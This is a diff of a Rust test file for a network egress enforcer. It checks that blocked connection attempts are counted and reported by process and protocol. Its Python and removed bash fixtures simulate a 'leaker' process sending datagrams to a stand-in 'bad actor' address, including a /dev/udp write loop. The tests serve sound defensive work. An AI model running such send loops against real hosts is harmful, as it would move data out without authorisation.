@@ -1,6 +1,6 @@
 //! What a person is told of denials: who, where, how often.
 
-use std::time::Duration;
+use std::{collections::BTreeMap, time::Duration};
 
 use anyhow::{Context, Result};
 use enforcer::control::EventRecord;
@@ -28,7 +28,10 @@ fn denials_of_one_process_are_folded_counted_and_told_with_its_name() -> Result<
             .is_ok_and(|events| told(&events) == DENIALS)
     })?;
     let events = enforcer.events()?;
-    assert!(events.len() <= 2, "{events:#?}");
+    assert!(
+        events.len() <= 4,
+        "two for each window at most: {events:#?}"
+    );
     let scope = lab.device_cgroup().path();
     for event in &events {
         assert_eq!(event.pid, Some(pid), "{event:?}");
@@ -46,14 +49,95 @@ fn denials_of_one_process_are_folded_counted_and_told_with_its_name() -> Result<
     Ok(())
 }
 
+/// The five processes' denials of TCP, UDP and a protocol without ports: 200 each.
+const MIXED: [[u64; 3]; 5] = [
+    [60, 70, 70],
+    [62, 69, 69],
+    [64, 68, 68],
+    [66, 67, 67],
+    [68, 66, 66],
+];
+/// Connects datagram sockets, as getaddrinfo and Go do, and then denials of each protocol, all at once to one address.
+const MIXED_DENIALS: &str = "\
+import socket, sys
+def refused(act):
+    try:
+        act()
+    except PermissionError:
+        return
+    sys.exit('not refused')
+def opened(kind, protocol=0):
+    return socket.socket(socket.AF_INET, kind, protocol)
+to = ('203.0.113.66', 443)
+tcp, udp, other = map(int, sys.argv[1:])
+for _ in range(5):
+    refused(lambda: opened(socket.SOCK_DGRAM).connect(to))
+for _ in range(tcp):
+    refused(lambda: opened(socket.SOCK_STREAM).connect(to))
+for _ in range(udp):
+    refused(lambda: opened(socket.SOCK_DGRAM).sendto(b'data', to))
+for _ in range(other):
+    refused(lambda: opened(socket.SOCK_RAW, 253).sendto(b'data', ('203.0.113.66', 0)))
+";
+
+#[test]
+fn a_thousand_denials_are_told_by_process_and_protocol_with_their_exact_counts() -> Result<()> {
+    let lab = Lab::start()?;
+    let enforcer = Enforcer::start(&lab, &REGIONS, "")?;
+    let mut expected = BTreeMap::new();
+    let mut processes = Vec::new();
+    for counts in MIXED {
+        let mut python = lab.device().command("python3");
+        python.args(["-S", "-B", "-c", MIXED_DENIALS]);
+        python.args(counts.map(|count| count.to_string()));
+        let process = Running::start("mixed", python)?;
+        for (protocol, count) in ["tcp", "udp", "253"].into_iter().zip(counts) {
+            expected.insert((process.pid(), protocol.to_owned()), count);
+        }
+        processes.push(process);
+    }
+    for process in &mut processes {
+        let status = process.wait(MINUTE)?.context("a process does not end")?;
+        assert!(status.success());
+    }
+    enforcer.await_told("all denials are told", FOLDED_WITHIN, |_status| {
+        enforcer.events().is_ok_and(|events| told(&events) >= 1000)
+    })?;
+    let events = enforcer.events()?;
+    let mut counts = BTreeMap::new();
+    for event in &events {
+        let pid = event.pid.context("a process is not known")?;
+        let command = event.command.as_deref().unwrap_or_default();
+        assert!(command.starts_with("python"), "{event:?}");
+        *counts.entry((pid, event.protocol.clone())).or_default() += 1 + event.folded;
+    }
+    assert_eq!(counts, expected);
+    let counters = enforcer.told()?.counters;
+    assert_eq!(counters.attempts("deny"), 1000);
+    assert_eq!(
+        counters.denied(),
+        1000 + 5 * 5,
+        "connecting is a call, and no attempt"
+    );
+    let log = enforcer.log();
+    assert!(
+        log.contains("tcp to 203.0.113.66:443: an Azure storage address"),
+        "{log}"
+    );
+    Ok(())
+}
+
 /// One process named `leaker` that sends [`DENIALS`] datagrams to the bad actor's account; its id.
 fn send_many(place: &Place) -> Result<u32> {
-    let mut bash = place.command("bash");
-    bash.arg("-c").arg(format!(
-        "printf leaker >/proc/$$/comm
-         for _ in {{1..{DENIALS}}}; do echo data >/dev/udp/203.0.113.66/443; done 2>/dev/null"
+    let mut python = place.command("python3");
+    python.args(["-S", "-B", "-c"]).arg(format!(
+        "import contextlib, socket\n\
+         open('/proc/self/comm', 'w').write('leaker')\n\
+         for _ in range({DENIALS}):\n\
+         \x20with contextlib.suppress(PermissionError):\n\
+         \x20 socket.socket(type=socket.SOCK_DGRAM).sendto(b'data', ('203.0.113.66', 443))"
     ));
-    let mut running = Running::start("leaker", bash)?;
+    let mut running = Running::start("leaker", python)?;
     running.wait(MINUTE)?.context("leaker does not end")?;
     Ok(running.pid())
 }
